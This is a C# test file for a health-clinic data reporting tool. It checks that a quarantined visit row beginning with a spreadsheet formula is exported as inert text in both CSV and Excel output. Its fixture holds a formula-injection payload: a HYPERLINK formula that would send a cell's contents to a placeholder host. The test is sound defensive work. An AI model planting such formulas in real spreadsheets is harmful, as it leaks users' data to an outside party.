using ClosedXML.Excel;
using Pws.Reports.Cli;
using Pws.Testing;

namespace Pws.Reports.Tests.Excel;

/// <summary>Text from outside (a quarantined row as a puskesmas typed it) that a spreadsheet would run as a formula
/// arrives as text in the CSV and in the workbook.</summary>
public sealed class FormulaInjectionTests
{
    // Written unquoted, as a spreadsheet saves a formula's text in a CSV export with ';' between its arguments.
    private const string Hyperlink = "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1;\"klik\")";

    [Test]
    public void A_quarantined_row_starting_with_a_formula_is_exported_inert()
    {
        using var warehouse = new TestWarehouse();
        using var output = new TempFolder();
        warehouse.NewInbox()
            .File("master/puskesmas.csv", "kode_puskesmas,nama,kode_kecamatan", "P1,Puskesmas Satu,33.29.01")
            .File("master/wilayah_kerja.csv", "kode_puskesmas,kode_desa", "P1,33.29.01.2001")
            .File("P1/kunjungan_2025.csv", InboxBuilder.KunjunganHeader,
                $"{Hyperlink},2025-03-12,P1,123,,P,1995-05-05,33.29.01.2001,ANC_K6,POSYANDU");
        warehouse.Import();

        string[] Export(string format) =>
            ExportCommand.Run(["export", "karantina", "--format", format, "--out", output[$"karantina.{format}"], .. warehouse.CliArguments, "--kabupaten", "33.29"]) == 0
                ? [output[$"karantina.{format}"]]
                : throw new AssertionException("export gagal");
        var csv = File.ReadAllLines(Export("csv")[0]);
        using var workbook = new XLWorkbook(Export("xlsx")[0]);
        var cells = workbook.Worksheet(1).CellsUsed().ToList();

        Assert.That(csv, Has.Length.EqualTo(2));
        Assert.That(csv[1], Does.Contain(",\"'=HYPERLINK(\"\"http://contoh.invalid/?d="));
        Assert.That(csv[1].Split(','), Has.None.StartsWith("=").And.None.StartsWith("\"="));
        Assert.That(cells.Where(c => c.HasFormula), Is.Empty);
        Assert.That(cells.Select(c => c.GetString()), Has.Some.StartsWith("=HYPERLINK(\"http://contoh.invalid"), "the workbook keeps the text as text");
    }
}
